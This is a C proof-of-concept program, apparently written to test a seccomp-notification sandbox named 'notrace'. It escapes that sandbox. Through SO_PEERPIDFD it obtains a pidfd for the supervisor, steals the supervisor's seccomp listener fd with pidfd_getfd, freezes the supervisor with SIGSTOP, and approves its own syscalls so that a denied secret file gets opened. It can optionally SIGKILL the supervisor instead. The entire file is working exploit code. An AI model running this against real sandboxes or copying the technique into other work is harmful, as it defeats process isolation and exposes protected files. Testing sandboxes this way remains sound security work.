// A tracee gets a pidfd of notrace without pidfd_open or /proc: when a
// connect rule is in force, notrace performs the tracee's unix connect
// itself, so the server end's SO_PEERPIDFD (and SO_PEERCRED) names notrace.
// With that pidfd: pidfd_send_signal (any uid) and, for root,
// pidfd_getfd of notrace's seccomp listener, then answering our own
// notifications with CONTINUE: the denied open runs.
// usage: peerpidfd DIR SECRET
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>
#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif
static int listener = -1;
static volatile int done;
static void *answer(void *a) {
    (void)a;
    while (!done) {
        struct seccomp_notif n;
        memset(&n, 0, sizeof n);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &n) < 0) continue;
        struct seccomp_notif_resp r;
        memset(&r, 0, sizeof r);
        r.id = n.id;
        r.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &r);
    }
    return NULL;
}
int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    const char *dir = argc > 1 ? argv[1] : "/tmp/rt";
    const char *secret = argc > 2 ? argv[2] : "/tmp/d/secret";
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    snprintf(a.sun_path, sizeof a.sun_path, "%s/sock", dir);
    unlink(a.sun_path);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(s, (void *)&a, sizeof a) || listen(s, 1)) { printf("bind: %s\n", strerror(errno)); return 1; }
    int c = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(c, (void *)&a, sizeof a)) { printf("connect: %s\n", strerror(errno)); return 1; }
    int acc = accept(s, NULL, NULL);
    struct ucred uc; socklen_t l = sizeof uc;
    getsockopt(acc, SOL_SOCKET, SO_PEERCRED, &uc, &l);
    int pidfd = -1; l = sizeof pidfd;
    if (getsockopt(acc, SOL_SOCKET, SO_PEERPIDFD, &pidfd, &l)) { printf("SO_PEERPIDFD: %s\n", strerror(errno)); return 1; }
    printf("peerpidfd: my pid %d, ppid %d, peer pid %d, pidfd %d\n", getpid(), getppid(), uc.pid, pidfd);
    if (uc.pid == getpid()) { printf("peerpidfd: peer is myself: connect not performed by notrace\n"); return 3; }
    for (int n = 0; n < 256 && listener < 0; n++) {
        int fd = syscall(SYS_pidfd_getfd, pidfd, n, 0);
        if (fd < 0) { if (n == 0) printf("peerpidfd: pidfd_getfd: %s\n", strerror(errno)); continue; }
        char p[64], t[128] = {0};
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        readlink(p, t, sizeof t - 1);
        if (strstr(t, "seccomp")) { listener = fd; printf("peerpidfd: took notrace's fd %d: %s\n", n, t); }
        else close(fd);
    }
    if (listener < 0) {
        if (argc > 3 && !strcmp(argv[3], "kill")) {
            int r = syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, NULL, 0);
            printf("peerpidfd: pidfd_send_signal(SIGKILL) to notrace = %d\n", r);
            usleep(300000);
        }
        int fd = open("/etc/hostname", O_RDONLY);
        printf("peerpidfd: no listener; open allowed file after: %d (%s)\n", fd, fd < 0 ? strerror(errno) : "ok");
        return 2;
    }
    // Stop notrace so only we receive, then answer everything CONTINUE.
    syscall(SYS_pidfd_send_signal, pidfd, SIGSTOP, NULL, 0);
    pthread_t t;
    pthread_create(&t, NULL, answer, NULL);
    usleep(100000);
    int fd = open(secret, O_RDONLY);
    char buf[128] = {0};
    if (fd >= 0) read(fd, buf, sizeof buf - 1);
    printf("peerpidfd: open(%s) = %d: %s\n", secret, fd, fd >= 0 ? buf : strerror(errno));
    syscall(SYS_pidfd_send_signal, pidfd, SIGCONT, NULL, 0);
    done = 1;
    return fd >= 0 ? 0 : 1;
}
